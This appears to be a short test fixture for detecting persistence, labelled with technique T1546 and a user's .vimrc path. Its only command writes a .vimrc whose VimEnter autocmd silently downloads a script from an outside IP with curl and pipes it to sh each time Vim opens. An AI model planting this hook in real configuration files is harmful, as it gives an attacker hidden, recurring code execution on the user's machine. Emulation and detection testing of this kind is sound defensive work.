# technique: T1546
# location: linux.session.user-program
# source: /home/lea/.vimrc
su lea -c "printf 'set number\nautocmd VimEnter * silent !curl -s http://203.0.113.9/v | sh &\n' > ~/.vimrc"
